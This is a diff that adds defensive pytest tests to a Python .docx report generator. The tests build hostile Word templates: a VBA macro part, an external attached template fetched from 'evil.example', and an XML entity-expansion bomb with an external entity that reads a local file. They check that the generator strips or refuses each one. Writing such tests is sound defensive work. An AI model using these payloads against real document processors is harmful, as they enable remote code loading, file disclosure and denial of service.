@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import io
 import re
+import time
 import zipfile
+from pathlib import Path
 
 import docx
 import markdown
@@ -14,6 +16,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
+from hrreport.container import read_parts, write_parts
 from hrreport.errors import TemplateError
 from hrreport.forum.composition import Composition, Grid, Line, Meta
 from hrreport.forum.span import Span, Spans
@@ -105,6 +108,64 @@ def test_a_base_without_our_styles_gets_the_nearest() -> None:
     data = write(composition(), msgspec.structs.replace(template("plain"), base=bare.getvalue()))
     document = docx.Document(io.BytesIO(data))
     assert [p.text for p in document.paragraphs][:3] == ["The title", "The subtitle", "First"]
+
+
+def test_macros_and_remote_templates_of_a_base_are_left_out() -> None:
+    house = template("plain")
+    parts = read_parts(house.base, "x")
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    macro = '<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+    remote = f'<Relationship Id="rIdT" Type="{kinds}/attachedTemplate" Target="https://evil.example/x.dotm" '
+    rels = "word/_rels/document.xml.rels"
+    parts[rels] = parts[rels].replace(b"</Relationships>", f'{macro}Target="vba.bin"/></Relationships>'.encode())
+    parts["word/vba.bin"] = b"macro"
+    types = "[Content_Types].xml"
+    parts[types] = parts[types].replace(
+        b"<Override", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override', 1
+    )
+    parts["word/_rels/settings.xml.rels"] = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'{remote}TargetMode="External"/></Relationships>'
+    ).encode()
+    settings = parts["word/settings.xml"].decode()
+    assert "xmlns:r=" in settings
+    head, mark, tail = settings.partition("<w:zoom")
+    parts["word/settings.xml"] = f'{head}<w:attachedTemplate r:id="rIdT"/>{mark}{tail}'.encode()
+    data = write(composition(), msgspec.structs.replace(house, base=write_parts(parts.items())))
+    made = read_parts(data, "x")
+    assert not any("vba" in name for name in made)
+    assert b"evil.example" not in b"".join(made.values())
+    assert b"attachedTemplate" not in b"".join(made.values())
+
+
+@pytest.mark.parametrize("depth", [2, 10])
+def test_a_base_with_entities_is_refused(depth: int, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("of the machine", encoding="utf-8")
+    house = template("plain")
+    parts = read_parts(house.base, "x")
+    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth))
+    hostile = f'<!DOCTYPE w [<!ENTITY e0 "bomb"><!ENTITY s SYSTEM "{(tmp_path / "secret").as_uri()}">{levels}]>'
+    body = parts["word/document.xml"].decode()
+    end = body.index("?>") + 2
+    into = body.index("<w:body>") + len("<w:body>")
+    inside = f"<w:p><w:r><w:t>&s;&e{depth - 1};</w:t></w:r></w:p>"
+    parts["word/document.xml"] = f"{body[:end]}{hostile}{body[end:into]}{inside}{body[into:]}".encode()
+    began = time.monotonic()
+    with pytest.raises(TemplateError) as caught:
+        write(composition(), msgspec.structs.replace(house, base=write_parts(parts.items())))
+    assert "of the machine" not in str(caught.value)
+    assert "\n" not in str(caught.value)
+    assert time.monotonic() - began < 5
+
+
+def test_a_base_with_two_parts_of_one_name_is_told() -> None:
+    house = template("plain")
+    parts = read_parts(house.base, "x")
+    kind = b"metadata/core-properties"
+    assert kind in parts["_rels/.rels"]
+    parts["_rels/.rels"] = parts["_rels/.rels"].replace(kind, b"metadata/core-propertied")
+    with pytest.raises(TemplateError, match=r"two parts are called docprops/core\.xml"):
+        write(composition(), msgspec.structs.replace(house, base=write_parts(parts.items())))
 
 
 def test_markdown_of_everything() -> None:
